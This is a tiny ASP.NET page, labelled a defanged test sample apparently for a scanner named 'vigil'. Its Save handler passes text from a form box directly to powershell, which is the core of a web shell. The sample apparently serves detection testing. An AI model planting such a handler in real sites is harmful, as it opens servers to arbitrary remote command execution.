<%@ Page Language="C#" %>
<%-- DEFANGED vigil test sample (see README) --%>
<% DEFANGED SAMPLE does not compile %>
<asp:TextBox ID="body" TextMode="MultiLine" runat="server"/>
<script runat="server">
protected void Save(object s, EventArgs e) {
	string code = body.Text;
	System.Diagnostics.Process.Start("powershell", "-c " + code);
}
</script>
